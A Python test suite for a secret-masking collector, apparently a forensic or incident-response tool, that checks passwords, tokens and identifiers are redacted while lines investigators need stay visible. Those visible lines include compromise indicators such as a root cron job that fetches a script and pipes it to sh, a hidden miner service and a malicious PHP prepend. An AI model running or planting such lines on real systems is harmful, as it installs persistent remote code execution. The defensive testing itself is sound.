"""What must not happen: a secret or an identifier in a line that leaves the child."""

from __future__ import annotations

import os
import string
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from collectors.child import BoundedChild
from collectors.content.line_forms import (
    MOST_BYTES,
    MOST_LINES,
    TARGET,
    LinesInit,
    LinesRequest,
    LinesResult,
)
from collectors.content.lines import look, masked_lines, secret_lines, split
from tests.collectors.content.citizens import niks

_KEY = b"k" * 32
PASSWORDS = st.text(string.ascii_letters + string.digits + "!$%^&*_-+=.,", min_size=8, max_size=24)
TEMPLATES = """
DB_PASSWORD={}
DB_PASSWORD="{}"
db_password: {}
define('DB_PASSWORD', '{}');
define( "AUTH_KEY", "{}" );
'password' => '{}',
$config['smtp_pass'] = '{}';
"secret": "{}",
requirepass {}
  token = {}
<add key="x" password="{}"/>
<password>{}</password>
mysqldump -uroot -p{} data
curl -u admin:{} http://127.0.0.1/
*/5 * * * * root PGPASSWORD={} pg_dump
proxy http://user:{}@10.0.0.1:3128
Authorization: Bearer {}
export AWS_SECRET_ACCESS_KEY={}
PrivateKey = {}
identified by '{}'
rocommunity: {}
"""


def show(text: str, style: str = "plain") -> list[str]:
    data = text.encode()
    return masked_lines(data, split(data), LinesRequest(style=style))


@pytest.mark.parametrize("template", TEMPLATES.strip("\n").splitlines())
@given(password=PASSWORDS)
def test_no_password(template: str, password: str) -> None:
    if password.isdigit():
        return
    shown = "\n".join(show(f"# first\n{template.format(password)}\nlast = 1\n"))
    body = password.strip("'\"=.,;-+!$%^&*_")
    assert password not in shown
    assert len(body) < 6 or body not in shown
    assert "# first" in shown
    assert " = 1" in shown


@given(nik=niks(), style=st.sampled_from(["plain", "words"]))
def test_no_identifier(nik: str, style: str) -> None:
    (shown,) = show(f"ssh-ed25519 AAAA budi-{nik}@kantor", style)
    assert nik not in shown
    assert nik[4:12] not in shown


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("root:$6$abcdefgh$Zm9vYmFyZm9vYmFyZm9vYmFy:19000:0:", "Zm9vYmFy"),
        ("user:$apr1$abcdefgh$Zm9vYmFyZm9vYmFy", "Zm9vYmFy"),
        ("x {SSHA}Zm9vYmFyZm9vYmFyZm9vYmFy", "Zm9vYmFy"),
        ("# was ghp_abcdefghijklmnopqrstuvwxyz0123456789", "abcdefghijkl"),
        ("bot 123456789:AAE-abcdefghijklmnopqrstuvwxyz01234", "abcdefghij"),
        ("x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", "c2lnbmF0"),
        ("opaque 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b", "884c7d65"),
        ("opaque Zk3yQ9vLr8WnT5xUe2HcJ7bM", "Zk3yQ9vL"),
        ("password: |\n  first-line-of-it\n  second-line\nnext: 1", "first-line"),
        ("'password' =>\n    'on-the-next-line',\n'x' => 1", "on-the-next"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\nabc\n-----END", "MIIEow"),
        ("mysql://app:p@ss/w:rd@db.local/x", "ss/w"),
    ],
)
def test_no_secret_by_its_form(text: str, secret: str) -> None:
    assert secret in text
    assert secret not in "\n".join(show(text))


@pytest.mark.parametrize(
    "line",
    [
        "PasswordAuthentication yes",
        "PermitRootLogin without-password",
        "AuthorizedKeysFile .ssh/authorized_keys",
        "* * * * * root curl http://203.0.113.7/x.sh | sh",
        "ExecStart=/usr/bin/python3 /tmp/.x/miner --threads 4",
        "AllowOverride All",
        "SSLCertificateKeyFile=/etc/ssl/private/x.pem",
        "RewriteRule ^(.*)$ https://slot-gacor.example/$1 [R=302,L]",
        "nameserver 203.0.113.53",
        "auto_prepend_file = /tmp/x.php",
        "DB_PASSWORD=",
        "proxy_pass http://127.0.0.1:8080;",
    ],
)
def test_what_people_need_to_see_stays(line: str) -> None:
    assert show(line) == [line]


@pytest.mark.parametrize(
    "line",
    [
        "www-data ALL=(ALL) NOPASSWD: ALL",
        "password requisite pam_pwquality.so retry=3",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHUFTx3k1W7uJk0Zk3yQ9vLr8WnT5xUe2HcJ7bMxyz12 a@b",
    ],
)
def test_files_that_speak_of_keys(line: str) -> None:
    assert show(line, "words") == [line]


def test_secret_files_show_accounts_only() -> None:
    raw = [b"root:$6$x$abc:19000", b"", b"NIK 1", b"-----BEGIN", b"MIIE", b"1571012345670001:x"]
    assert secret_lines(raw) == ["root:****", "", "****", "****", "****", "****"]


def test_control_characters_and_length() -> None:
    assert show("a\x1b[2Jb\u202ec") == ["a\\x1b[2Jb\\u202ec"]
    (cut,) = show("x " * 400)
    assert len(cut) == 300
    assert show("a\tb\r") == ["a    b"]


def at(tmp_path: Path, content: bytes) -> int:
    path = tmp_path / "f"
    path.write_bytes(content)
    return os.open(path, os.O_RDONLY)


@pytest.mark.parametrize(
    ("content", "outcome"),
    [
        (b"", "text"),
        (b"a\nb", "text"),
        (b"a\0b", "binary"),
        (b"x" * (MOST_BYTES + 1), "too large"),
        (b"\n" * (MOST_LINES + 1), "too large"),
    ],
)
def test_outcomes(tmp_path: Path, content: bytes, outcome: str) -> None:
    descriptor = at(tmp_path, content)
    try:
        answer = look(descriptor, LinesRequest(), _KEY)
        assert answer.outcome == outcome
    finally:
        os.close(descriptor)


def test_hashes_tell_lines_apart_and_hang_on_the_key(tmp_path: Path) -> None:
    descriptor = at(tmp_path, b"DB_PASSWORD=one-secret\nDB_PASSWORD=two-secret\nx\nx\n")
    try:
        one = look(descriptor, LinesRequest(), _KEY).lines
        other = look(descriptor, LinesRequest(), b"o" * 32).lines
    finally:
        os.close(descriptor)
    assert one[0][1] == one[1][1] == "DB_PASSWORD=****"
    assert one[0][0] != one[1][0]
    assert one[2] == one[3]
    assert not {line[0] for line in one} & {line[0] for line in other}


def test_in_the_child(tmp_path: Path) -> None:
    init = msgspec.msgpack.encode(LinesInit(key=_KEY))
    descriptor = at(tmp_path, b"DB_PASSWORD=hunter2hunter2\n")
    try:
        with BoundedChild(TARGET, init=init) as child:
            answer = child.call(msgspec.msgpack.encode(LinesRequest()), [descriptor])
    finally:
        os.close(descriptor)
    assert b"hunter2" not in answer
    assert msgspec.msgpack.decode(answer, type=LinesResult).lines[0][1] == "DB_PASSWORD=****"
